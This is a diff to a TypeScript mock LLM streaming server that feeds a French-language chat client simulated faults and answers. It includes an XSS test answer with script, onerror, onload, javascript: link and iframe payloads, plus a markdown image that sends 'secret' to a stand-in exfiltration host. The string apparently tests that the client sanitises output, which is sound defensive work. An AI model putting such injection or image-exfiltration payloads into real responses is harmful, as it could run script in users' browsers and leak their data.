@@ -21,7 +21,7 @@ type ModeContext = {
 
 type Mode = (context: ModeContext) => Generator<Step>
 
-const ANSWER = `Bonjour, voici une première proposition pour votre délibération.
+export const DEFAULT_ANSWER = `Bonjour, voici une première proposition pour votre délibération.
 
 1. **Visas** : rappelez le code général des collectivités territoriales.
 2. **Considérants** : exposez le besoin, le montant et l’échéance.
@@ -29,7 +29,7 @@ const ANSWER = `Bonjour, voici une première proposition pour votre délibérati
 
 Il reste à préciser la date de la séance et le vote. Souhaitez-vous que je rédige l’article premier ?`
 
-const XSS = `Avant <script>window.__xss=1</script> <img src=x onerror="window.__xss=2"> <svg onload=window.__xss=3>
+export const XSS_ANSWER = `Avant <script>window.__xss=1</script> <img src=x onerror="window.__xss=2"> <svg onload=window.__xss=3>
 [lien](javascript:window.__xss=4) ![image](https://exfiltration.invalid/x.png?d=secret)
 <iframe srcdoc="<script>parent.__xss=5</script>"></iframe> [ref][r]
 
@@ -41,12 +41,9 @@ export const tokensOf = (text: string): string[] => text.match(/\S+\s*|\s+/g) ??
 
 /** The default answer, or `count` tokens made by repeating it. */
 export const answerTokens = (count?: number): string[] => {
-  const tokens = tokensOf(ANSWER)
+  const tokens = tokensOf(DEFAULT_ANSWER)
   return count === undefined ? tokens : Array.from({ length: count }, (_, i) => tokens[i % tokens.length]!)
 }
-
-export const DEFAULT_ANSWER = ANSWER
-export const XSS_ANSWER = XSS
 
 const head = (status: number, headers: Record<string, string>): Step => ({ kind: 'head', status, headers })
 const STREAM = head(200, { 'content-type': 'text/event-stream; charset=utf-8' })
@@ -111,6 +108,9 @@ const lengthRefusal = (told: (tokens: number, limit: number) => { status: number
     yield end('clean')
   }
 
+/** What a server says that gives no limit. */
+const onlyNo = () => ({ status: 422, body: { error: { message: 'SECRET-DU-SERVEUR', code: 'context_length_exceeded' } } })
+
 const whole = (context: ModeContext) => context.tokens.map((token) => event(delta(context, token))).join('') + finish(context, 'stop') + DONE
 
 /** Every fault by name; a number may follow, as in `lent:200` or `429:2`. */
@@ -168,20 +168,12 @@ const MODES = {
   /** As llama.cpp, which tells it too. */
   'trop-long-llama': lengthRefusal((n_prompt_tokens, n_ctx) => ({
     status: 400,
-    body: {
-      error: { code: 400, message: 'the request exceeds the available context size', type: 'exceed_context_size_error', n_prompt_tokens, n_ctx },
-    },
+    body: { error: { code: 400, message: 'the request exceeds the available context size', type: 'exceed_context_size_error', n_prompt_tokens, n_ctx } },
   })),
   /** As a server that only says no. */
-  'trop-long-sans-limite': lengthRefusal(() => ({
-    status: 422,
-    body: { error: { message: 'SECRET-DU-SERVEUR', code: 'context_length_exceeded' } },
-  })),
-  /** A reader of documents that refuses what is too long, and only says no. */
-  'faits-refuses': lengthRefusal(
-    () => ({ status: 422, body: { error: { message: 'SECRET-DU-SERVEUR', code: 'context_length_exceeded' } } }),
-    (context) => factsIn(context.body),
-  ),
+  'trop-long-sans-limite': lengthRefusal(onlyNo),
+  /** A reader of documents that does the same. */
+  'faits-refuses': lengthRefusal(onlyNo, (context) => factsIn(context.body)),
   *html() {
     yield head(200, { 'content-type': 'text/html' })
     yield bytes('<html><body>SECRET-DU-SERVEUR portail captif</body></html>')
@@ -260,7 +252,7 @@ const MODES = {
     yield STREAM
     for (;;) yield* spoken(context, context.tokens, context.argument ?? 5)
   },
-  xss: (context) => complete({ ...context, tokens: tokensOf(XSS) }),
+  xss: (context) => complete({ ...context, tokens: tokensOf(XSS_ANSWER) }),
   /** One byte per write. */
   *utf8(context) {
     yield STREAM
